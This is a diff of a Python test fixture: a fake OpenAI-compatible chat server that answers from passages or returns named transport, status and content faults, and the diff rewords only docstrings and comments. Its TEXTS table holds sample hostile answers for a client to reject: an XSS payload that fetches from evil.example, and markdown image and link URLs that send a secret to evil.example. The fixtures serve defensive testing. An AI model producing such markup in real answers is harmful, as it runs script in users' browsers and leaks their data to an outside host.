@@ -1,4 +1,4 @@
-"""An OpenAI-compatible chat server without a model: answers honestly from passages, or with a named fault.
+"""A fake OpenAI-compatible chat server: honest extractive answers, or a named fault.
 
 ``http://host:port/v1`` answers, ``http://host:port/FAULT/v1`` fails in that way.
 """
@@ -17,7 +17,7 @@ from fastapi import FastAPI, Request
 from fastapi.responses import HTMLResponse, JSONResponse, Response, StreamingResponse
 
 Body = Mapping[str, Any]
-#: Longer than any deadline of a test; the client is the one to hang up.
+#: Longer than any deadline of a test, so that the client ends the connection.
 _HANG = 60.0
 CANARY = "yorisoi-canary-7f3a"
 
@@ -27,7 +27,7 @@ _SENTENCE = re.compile(r"[^。.!?！？\n]+[。.!?！？]?")
 
 
 def answer_honestly(body: Body) -> str:
-    """The first sentences of the best passages with their numbers: what a perfect, dull model would say."""
+    """The first sentences of the best passages with citations, as a perfect extractive model would."""
     prompt = str(body["messages"][-1]["content"])
     passages = [(n, _MARK.sub("", text)) for n, text in _PASSAGE.findall(prompt)[:2]]
     first = [(n, found[0].strip()) for n, text in passages if (found := _SENTENCE.findall(text))]
@@ -54,7 +54,7 @@ DONE = b"data: [DONE]\n\n"
 async def stream_text(
     text: str, *, finish: str | None = "stop", done: bool = True, pace: float = 0.0
 ) -> AsyncIterator[bytes]:
-    """*text* a few characters at a time, with *pace* seconds in between."""
+    """Stream *text* a few characters at a time, with *pace* seconds in between."""
     yield build_chunk("", role="assistant")
     for start in range(0, len(text), 6):
         if pace:
@@ -144,7 +144,7 @@ async def null_content(text: str) -> AsyncIterator[bytes]:
 
 Stream = Callable[[str], AsyncIterator[bytes]]
 
-#: Broken in transport.
+#: Transport faults.
 STREAMS: Mapping[str, Stream] = {
     "hang-first": hang_first,
     "hang-between": hang_between,
@@ -166,7 +166,7 @@ STREAMS: Mapping[str, Stream] = {
     "surrogates": lambda text: stream_text("\ud83d返品\udc00できます。[1]" + text),
 }
 
-#: Refused before anything is streamed: status and headers.
+#: Refusals before the stream: status and headers.
 STATUSES: Mapping[str, tuple[int, Mapping[str, str]]] = {
     "unauthorized": (401, {}),
     "context-length": (400, {}),
@@ -177,7 +177,7 @@ STATUSES: Mapping[str, tuple[int, Mapping[str, str]]] = {
     "overloaded": (503, {}),
 }
 
-#: Well-formed and not to be shown.
+#: Well-formed answers that must not be shown.
 TEXTS: Mapping[str, str] = {
     "xss": "<img src=x onerror=alert(1)><script>fetch('//evil.example')</script>返品できます。[1]",
     "exfiltration": "![状態](https://evil.example/p.png?q=secret)[詳細](https://evil.example/?q=secret)です。[1]",
@@ -196,7 +196,7 @@ FAULTS = (*STREAMS, *STATUSES, *TEXTS, "html", "plain-json")
 
 
 def create_fake(says: Callable[[Body], str] = answer_honestly, pace: float = 0.0) -> FastAPI:
-    """The server; without a fault it answers what *says* makes of a request."""
+    """The server; without a fault it answers with the result of *says*."""
     app = FastAPI()
 
     @app.post("/v1/chat/completions")
@@ -227,7 +227,7 @@ def _build_streaming_response(events: AsyncIterator[bytes]) -> Response:
 
 @contextmanager
 def serve_app(app: FastAPI | None = None, **options: Any) -> Iterator[str]:
-    """A fake, or another *app*, on a free port of this machine; *options* are uvicorn's."""
+    """Serve a fake, or another *app*, on a free port of this machine; *options* are uvicorn's."""
     import uvicorn
 
     listener = socket.socket()
